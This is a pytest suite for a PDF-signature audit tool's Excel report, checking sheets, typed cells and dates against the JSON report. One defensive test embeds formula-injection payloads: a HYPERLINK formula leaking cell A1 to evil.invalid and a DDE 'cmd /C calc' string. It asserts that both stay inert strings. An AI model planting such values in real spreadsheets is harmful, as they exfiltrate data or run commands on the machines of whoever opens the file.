"""The Excel workbook (--xlsx), from a real scan of the sample archive, read back with openpyxl.

The scan validates the signed sample PDFs of demo/ against the demo PKI; the workbook must say what
the JSON report of the same run says, in typed cells (numbers, percentages, dates), with every
document-derived value a string cell — never a formula, whatever the text starts with.
"""

from __future__ import annotations

import dataclasses
import io
import json
import zipfile
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from sigaudit.aggregate.kpi import summarize
from sigaudit.cli import main
from sigaudit.model import Level, Verdict
from sigaudit.report import ReportContext
from sigaudit.report.deliverable_text import DELIVERABLE_TEXT
from sigaudit.report.i18n import LEVELS, TEXT, VERDICTS
from sigaudit.report.xlsx import render_xlsx

HOSTILE_PATH = '=HYPERLINK("http://evil.invalid/?leak="&A1,"open me")'


def _scan(sample_docs: Path, demo_pki: Path, *extra: str) -> Result:
    args = [
        "scan",
        str(sample_docs),
        "--trust-roots",
        str(demo_pki / "demo-root.pem"),
        "--other-certs",
        str(demo_pki / "demo-intermediate.pem"),
        "--agencies",
        str(demo_pki.parent / "agencies.csv"),
        "--jobs",
        "1",
        "-q",
        *extra,
    ]
    return CliRunner().invoke(main, args, catch_exceptions=False)


@pytest.fixture(scope="module")
def scanned(sample_docs: Path, demo_pki: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """One scan writing the JSON report and both workbooks (vi, the default, and en from the store)."""
    out = tmp_path_factory.mktemp("xlsx")
    store = out / "store.sqlite"
    result = _scan(
        sample_docs,
        demo_pki,
        "--store",
        str(store),
        "--json",
        str(out / "r.json"),
        "--xlsx",
        str(out / "vi.xlsx"),
    )
    assert result.exit_code == 0, result.output
    again = CliRunner().invoke(
        main, ["report", "--store", str(store), "-q", "--lang", "en", "--xlsx", str(out / "en.xlsx")]
    )
    assert again.exit_code == 0, again.output
    return {
        "json": json.loads((out / "r.json").read_text(encoding="utf-8")),
        "vi": load_workbook(out / "vi.xlsx"),
        "en": load_workbook(out / "en.xlsx"),
        "dir": out,
    }


def _sheet_rows(book: Workbook, title: str) -> list[dict[str, Any]]:
    rows = list(book[title].iter_rows(values_only=True))
    header = rows[0]
    return [dict(zip(header, r, strict=True)) for r in rows[1:]]


def test_the_sheets_are_there_with_headers_in_the_chosen_language(scanned: dict[str, Any]) -> None:
    for lang in ("vi", "en"):
        text = DELIVERABLE_TEXT[lang]
        book = scanned[lang]
        assert book.sheetnames == [
            text[k]
            for k in (
                "sheet_kpi",
                "sheet_flows",
                "sheet_agencies",
                "sheet_documents",
                "sheet_signatures",
                "sheet_reconciliation",
                "sheet_manifest",
            )
        ]
        for ws in book:
            assert ws.freeze_panes == "A2", ws.title  # the header stays in view
            assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}"
            assert all(ws.column_dimensions[c.column_letter].width > 5 for c in ws[1])
            assert all(c.font.b for c in ws[1])
    assert scanned["vi"][DELIVERABLE_TEXT["vi"]["sheet_documents"]]["C1"].value == TEXT["vi"]["col_verdict"]
    assert scanned["en"][DELIVERABLE_TEXT["en"]["sheet_documents"]]["C1"].value == TEXT["en"]["col_verdict"]


def test_kpi_sheet_matches_the_json_report_in_typed_cells(scanned: dict[str, Any]) -> None:
    summary = scanned["json"]["summary"]
    text, levels = {**TEXT["en"], **DELIVERABLE_TEXT["en"]}, LEVELS["en"]
    book = scanned["en"]
    ws = book[text["sheet_kpi"]]
    rows = _sheet_rows(book, text["sheet_kpi"])
    by_label = {r[text["col_level"]]: r for r in rows}
    shown = [lv for lv in Level if summary["by_level"][lv.value]["documents"]]
    assert list(by_label) == [levels[lv] for lv in shown] + [text["total"]]
    for lv in shown:
        want, row = summary["by_level"][lv.value], by_label[levels[lv]]
        assert row[text["col_documents"]] == want["documents"]
        assert row[text["col_signed"]] == want["signed"]
        assert row[text["col_valid"]] == want["valid"]
        assert row[text["col_pct_valid"]] == pytest.approx(want["valid"] / want["documents"])
        target = summary["targets"]["signed"].get(lv.value)
        if target is not None:
            met = want["signed"] / want["documents"] >= target
            assert row[text["col_target_met"]] == (text["target_met"] if met else text["target_not_met"])
    assert by_label[text["total"]][text["col_documents"]] == summary["total"]["documents"]
    province = next(r for r in ws.iter_rows(min_row=2) if r[0].value == levels[Level.PROVINCE])
    assert province[1].data_type == "n"
    assert province[10].data_type == "n" and province[10].number_format == "0.0%"  # % valid


def test_documents_and_signatures_one_row_each_with_dates_as_dates(scanned: dict[str, Any]) -> None:
    text = {**TEXT["en"], **DELIVERABLE_TEXT["en"]}
    docs = scanned["json"]["documents"]
    rows = _sheet_rows(scanned["en"], text["sheet_documents"])
    assert [r[text["col_path"]] for r in rows] == [d["path"] for d in docs]
    assert [r[text["col_sha256"]] for r in rows] == [d["sha256"] for d in docs]
    assert [r[text["col_verdict"]] for r in rows] == [VERDICTS["en"][Verdict(d["verdict"])] for d in docs]
    dated = [(r, d) for r, d in zip(rows, docs, strict=True) if d.get("document_date")]
    assert dated
    for row, doc in dated:
        assert isinstance(row[text["col_document_date"]], datetime)  # an Excel date, not text
        assert row[text["col_document_date"]].date() == date.fromisoformat(doc["document_date"])
    sigs = _sheet_rows(scanned["en"], text["sheet_signatures"])
    assert len(sigs) == sum(len(d["signatures"]) for d in docs)
    timed = [s for s in sigs if s[text["col_claimed_time"]] is not None]
    assert timed and all(isinstance(s[text["col_claimed_time"]], datetime) for s in timed)
    first = next(d for d in docs if d["signatures"])
    sig = first["signatures"][0]
    row = next(s for s in sigs if s[text["col_path"]] == first["path"])
    assert row[text["col_field"]] == sig["field"] and row[text["col_indication"]] == sig["indication"]
    # the claimed time, shown in Vietnam time (UTC+07:00): Excel cells hold no offset
    claimed = datetime.fromisoformat(sig["claimed_signing_time"])
    vietnam = claimed.astimezone(timezone(timedelta(hours=7))).replace(tzinfo=None)
    assert row[text["col_claimed_time"]] == vietnam


def test_reconciliation_and_manifest_sheets(scanned: dict[str, Any]) -> None:
    text = {**TEXT["en"], **DELIVERABLE_TEXT["en"]}
    findings = scanned["json"]["reconciliation"]
    rows = _sheet_rows(scanned["en"], text["sheet_reconciliation"])
    assert [(r[text["col_finding"]], r[text["col_identity"]]) for r in rows] == [
        (f["finding"], f["identity"]) for f in findings
    ]
    manifest = {
        r[text["col_key"]]: r[text["col_value"]] for r in _sheet_rows(scanned["en"], text["sheet_manifest"])
    }
    assert manifest["sigaudit version"] == scanned["json"]["manifest"]["tool_version"]


def test_a_document_named_like_a_formula_stays_a_string(scanned: dict[str, Any], sample_docs: Path) -> None:
    """A path, agency name or reason starting with '=' is written as a string cell, not a formula that
    a spreadsheet would evaluate (here: a link leaking the neighbouring cell)."""
    from sigaudit.agencies.registry import load_registry
    from sigaudit.audit import AuditOptions, run_audit
    from sigaudit.validation.trust import build_trust

    demo = sample_docs.parent / "demo"
    trust = build_trust([demo / "pki" / "demo-root.pem"], [demo / "pki" / "demo-intermediate.pem"])
    folder = sample_docs / "tinh"
    run = run_audit(
        AuditOptions(paths=(folder,), trust=trust, registry=load_registry(demo / "agencies.csv"), jobs=1)
    )
    docs = list(run.documents)
    docs[0] = dataclasses.replace(
        docs[0],
        path=HOSTILE_PATH,
        agency=dataclasses.replace(docs[0].agency, name="@SUM(1+1)*cmd|' /C calc'!A0\x07\u202e"),
    )
    hostile = dataclasses.replace(run, documents=tuple(docs))
    data = render_xlsx(ReportContext(hostile, summarize(hostile.documents), lang="en"))
    text = {**TEXT["en"], **DELIVERABLE_TEXT["en"]}
    ws = load_workbook(io.BytesIO(data))[text["sheet_documents"]]
    assert ws["A2"].value == HOSTILE_PATH and ws["A2"].data_type == "s"
    assert ws["F2"].value == "@SUM(1+1)*cmd|' /C calc'!A0\\x07\\u202e" and ws["F2"].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in package.read(n) for n in sheets)  # no formula anywhere


def test_report_rebuilds_the_same_documents_from_the_store(scanned: dict[str, Any]) -> None:
    """``report --xlsx`` (English, from the store) lists the documents ``scan --xlsx`` listed."""
    vi, en = scanned["vi"], scanned["en"]
    vi_rows = list(vi[DELIVERABLE_TEXT["vi"]["sheet_documents"]].iter_rows(min_row=2, values_only=True))
    en_rows = list(en[DELIVERABLE_TEXT["en"]["sheet_documents"]].iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[1]) for r in vi_rows] == [(r[0], r[1]) for r in en_rows]


def test_an_unwritable_workbook_is_exit_2_and_leaves_no_partial_file(
    sample_docs: Path, demo_pki: Path, tmp_path: Path
) -> None:
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("x", encoding="utf-8")
    result = _scan(sample_docs, demo_pki, "--no-store", "--xlsx", str(blocker / "w.xlsx"))
    assert result.exit_code == 2, result.output
    assert "cannot write" in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["not-a-folder"]


def test_both_languages_label_every_deliverable_and_sheet_names_fit_excel() -> None:
    assert set(DELIVERABLE_TEXT["vi"]) == set(DELIVERABLE_TEXT["en"])
    for text in DELIVERABLE_TEXT.values():
        for key, name in text.items():
            if key.startswith("sheet_"):  # Excel: at most 31 characters, none of []:*?/\
                assert len(name) <= 31 and not set(name) & set("[]:*?/\\"), name
